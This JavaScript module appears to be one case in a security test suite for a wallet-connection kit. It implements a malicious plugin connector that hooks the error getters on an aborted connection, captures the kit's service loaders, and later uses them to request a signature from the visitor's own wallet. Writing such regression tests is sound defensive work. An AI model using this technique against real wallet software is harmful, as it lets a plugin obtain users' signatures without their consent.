import { Subject } from 'rxjs'
import { ConnectionService, connectors } from 'latchkey/kernel'
import { useServiceLoader } from 'latchkey/ui'
import { attempt, page, settled, spy, until, visitor } from './world.mjs'

export const row = 'SEC-85'

/**
 * With the grant to bring a wallet: it goes while the visitor connects to it. The signal that it was handed aborts with
 * the very error that the kit draws next, and its members can be given code.
 */
export async function attack() {
  const loaders = new Set()
  let leave
  let isAsked = false
  const take = () => {
    try {
      loaders.add(useServiceLoader(ConnectionService))
    } catch {}
    return 'WALLET_ERROR'
  }
  const connector = {
    id: 'evil/wallet',
    type: 'ANNOUNCED',
    namespaces: ['eip155'],
    connect({ signal }) {
      isAsked = true
      signal.addEventListener('abort', () => {
        for (const name of ['code', 'message', 'details', 'shortMessage']) {
          Object.defineProperty(signal.reason, name, { get: take, configurable: true })
        }
      })
      return new Promise(() => {})
    },
    reconnect: async () => [],
    disconnect: async () => {},
    request: async () => 'mine',
    switchNetwork: async () => {},
    provider: () => undefined,
    events$: new Subject(),
  }
  const permissions = ['wallet:connector']
  const evil = spy({ permissions }, (_, ctx) => {
    const there = ctx.contribute(
      connectors.of({
        id: 'evil/wallet',
        type: 'ANNOUNCED',
        name: 'Evil',
        namespaces: ['eip155'],
        connector,
      }),
    )
    leave = () => there.dispose()
  })
  const { kit, wallet } = await page({
    plugins: [evil],
    grants: { 'evil/plugin': permissions },
    connects: false,
  })
  await until(() => leave, 'its set-up')
  const root = () => document.querySelector('kit-modal')?.shadowRoot
  kit.open().catch(() => {})
  await until(() => root()?.querySelector('h2'), 'the card')
  await settled(20)
  const row = [...root().querySelectorAll('button')].find((one) => /Evil/.test(one.textContent))
  row?.click()
  await settled(20)
  leave()
  await settled(30)
  const words = root()?.textContent
  // Later the visitor connects the wallet that is theirs.
  await kit.connect({ connectorId: wallet.connector.id }).catch(() => {})
  await settled()
  const request = {
    method: 'personal_sign',
    params: ['0x68656c6c6f', visitor],
    namespace: 'eip155',
    caipNetworkId: 'eip155:1',
  }
  for (const load of loaders) {
    await attempt(async () =>
      (await load()).connectorOf('eip155').request(request, new AbortController().signal),
    )
  }
  const asked = wallet.requests.find(({ method }) => method === 'personal_sign')
  await kit.dispose()
  if (asked) return ['a signature', asked.params]
  if (loaders.size > 0) return 'a hook in the tree of the kit'
  if (process.env.DEBUG_H) console.log({ isAsked, words })
}
